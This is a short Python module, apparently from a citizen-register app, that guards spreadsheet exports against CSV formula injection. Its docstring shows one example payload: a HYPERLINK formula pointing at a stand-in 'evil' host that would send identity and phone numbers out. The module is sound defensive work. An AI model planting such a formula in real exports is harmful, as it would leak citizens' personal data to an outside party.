"""Every cell of an export is data, never a formula (OWASP "CSV injection").

Citizen text reaches the officers' spreadsheets: a title such as
``=HYPERLINK("https://evil/?"&C2, "klik")`` would otherwise run when the file is opened
and could send the register's NIK and phone numbers out. A text that begins with one of
``= + - @``, a tab or a carriage return gets a leading apostrophe in CSV, as OWASP advises. In XLSX
every text is written as a string cell (openpyxl would make ``=...`` a formula), and such a
text gets Excel's own "quote prefix" instead of a visible apostrophe: the officer reads
``+6281234567891`` as it was typed, and the program never evaluates it.
Numbers, dates and booleans stay what they are.
"""

from collections.abc import Iterable

from openpyxl.cell import WriteOnlyCell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """The value as it may go into a spreadsheet: a text that a spreadsheet program would
    read as a formula gets a leading apostrophe; any other value is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable) -> list:
    """A CSV row (csv.writer) with every text neutralised."""
    return [neutralise(v) for v in values]


def xlsx_row(sheet, values: Iterable) -> list:
    """A row for ``sheet.append``: texts as string cells, never formulas. Works for
    write-only sheets (cells bound to the sheet) and normal ones."""
    row = []
    for value in values:
        if isinstance(value, str):
            cell = WriteOnlyCell(sheet, value=value)
            cell.data_type = "s"
            cell.quotePrefix = value.startswith(FORMULA_STARTS)
            row.append(cell)
        else:
            row.append(value)
    return row
